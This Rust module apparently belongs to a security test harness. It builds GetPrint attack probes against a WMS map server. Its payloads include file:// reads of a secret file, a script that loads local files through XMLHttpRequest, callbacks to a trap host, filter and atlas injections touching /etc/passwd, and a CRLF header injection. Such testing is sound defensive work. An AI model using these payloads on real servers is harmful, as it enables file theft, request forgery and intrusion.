//! `GetPrint`: files, scripts and expressions in a layout's frame and labels.

use super::super::{
    attack::Attack,
    fixture::Fixture,
    probe::{Coverage, Parameters, Probe, spelled},
};
use super::expressions;

const FAMILY: &str = "prints";

/// Prints that show files and the results of expressions.
pub(super) fn attacks(fixture: &Fixture) -> Vec<Attack> {
    let frame = format!("file://{}", fixture.secret);
    let usual =
        "SERVICE=WMS&VERSION=1.3.0&TEMPLATE=A4&FORMAT=pdf&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=40";
    let hostile = vec![("REQUEST".to_owned(), "GetPrint".to_owned()), ("WEBFRAME".into(), frame)];
    let main = Probe::new(FAMILY, "a file in a frame", usual, hostile);
    let mut attacks = spelled(&[main], &fixture.alpha, Coverage::All);
    attacks.extend(spelled(&filled(fixture), &fixture.alpha, Coverage::Sample(3)));
    attacks.extend(spelled(&evaluated(fixture), &fixture.alpha, Coverage::Sample(0)));
    attacks.extend(spelled(&maps(fixture), &fixture.alpha, Coverage::Sample(4)));
    attacks
}

fn print(format: &str) -> String {
    format!(
        "SERVICE=WMS&VERSION=1.3.0&REQUEST=GetPrint&TEMPLATE=A4&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=40&FORMAT={format}"
    )
}

fn one(name: &str, value: impl Into<String>) -> Parameters {
    vec![(name.into(), value.into())]
}

/// The frame and the labels, filled with content that loads other files.
fn filled(fixture: &Fixture) -> Vec<Probe> {
    let Fixture { secret, page, svg, png, trap, .. } = fixture;
    let read = |url: &str| {
        format!(
            "<body>a<script>var x=new XMLHttpRequest();x.open('GET','{url}',false);x.send();document.body.innerHTML=x.responseText</script></body>"
        )
    };
    let values = [
        ("WEBFRAME", format!("file://{page}")),
        ("WEBFRAME", format!("file://{svg}")),
        ("WEBFRAME", secret.clone()),
        ("WEBFRAME", format!("FILE://localhost{secret}")),
        ("WEBFRAME", format!("file:{secret}")),
        ("WEBFRAME", format!("{trap}/frame")),
        ("WEBFRAME", format!("data:text/html,{}", read(&format!("file://{secret}")))),
        ("WEBFRAME", format!("javascript:location='{trap}/script'")),
        ("WEBFRAME", "[% 'file://' || @project_path %]".into()),
        ("WEBLABEL", read(&format!("file://{secret}"))),
        ("WEBLABEL", read(&format!("{trap}/label"))),
        ("WEBLABEL", format!("<img src='file://{png}' width='300' height='300'>")),
        ("WEBLABEL", format!("<img src='{trap}/picture'>")),
        ("WEBLABEL", format!("<iframe src='file://{page}'></iframe>")),
        ("WEBLABEL", format!("<link rel='stylesheet' href='{trap}/style'>")),
        ("WEBLABEL", "[% @keyword %]".into()),
        ("LABEL", "[% @keyword %]".into()),
        ("LABEL", "[% @project_path %]".into()),
        ("LABEL", "[% aggregate('hidden','max',\"name\") %]".into()),
        ("LABEL", "[% aggregate('places','max',\"hush\") %]".into()),
        ("LABEL", "[% attribute(get_feature('unserved','num',7),'name') %]".into()),
        ("label", "[%@keyword%]".into()),
    ];
    let probes = values.iter().flat_map(|(item, value)| {
        ["pdf", "png"].map(|format| Probe::new(FAMILY, *item, &print(format), one(item, value)))
    });
    probes.collect()
}

/// Every pair of expressions, in a label.
fn evaluated(fixture: &Fixture) -> Vec<Probe> {
    let label = |expression: &str| one("LABEL", format!("[% if({expression},'yes','no') %]"));
    let pairs = expressions::pairs(fixture);
    pairs
        .iter()
        .map(|(truthy, falsy)| Probe::new(FAMILY, truthy, &print("png"), label(truthy)).against(label(falsy)))
        .collect()
}

/// A layout's maps and its atlas.
fn maps(fixture: &Fixture) -> Vec<Probe> {
    let external = vec![
        ("MAP0:LAYERS".into(), "EXTERNAL_WMS:y".into()),
        ("y:url".into(), format!("{}/print", fixture.trap)),
        ("y:layers".into(), "a".into()),
        ("y:format".into(), "image/png".into()),
        ("y:crs".into(), "EPSG:3857".into()),
        ("y:styles".into(), String::new()),
    ];
    let escape = "subset:\"num\" = 0 ) OR ( \"num\" = \"num\"";
    let filter = vec![("MAP0:LAYERS".into(), "subset".into()), ("FILTER".into(), escape.into())];
    let style = Fixture::style("places", &fixture.svg);
    vec![
        Probe::new(FAMILY, "a layer from another host", &print("png"), external),
        Probe::new(FAMILY, "a restricted layer", &print("png"), one("MAP0:LAYERS", "hidden")),
        Probe::new(FAMILY, "out of a layer's filter", &print("png"), filter),
        Probe::new(
            FAMILY,
            "a style from another host",
            &print("png"),
            one("SLD", format!("{}/print", fixture.trap)),
        ),
        Probe::new(
            FAMILY,
            "a map's style from another host",
            &print("png"),
            one("MAP0:SLD", format!("{}/print", fixture.trap)),
        ),
        Probe::new(FAMILY, "a style with a picture", &print("png"), one("SLD_BODY", style)),
        Probe::new(FAMILY, "an atlas", &print("pdf"), one("ATLAS_PK", "1) or (file_exists('/etc/passwd')")),
        Probe::new(FAMILY, "an injected header", &print("pdf"), one("FILE_NAME", "a\"\r\nX-Pwned: \"b")),
        Probe::new(FAMILY, "the other catalogue", &print("pdf"), one("MAP", fixture.beta.clone())),
        Probe::new(FAMILY, "SVG", &print("svg"), one("LABEL", "[% @keyword %]")),
    ]
}
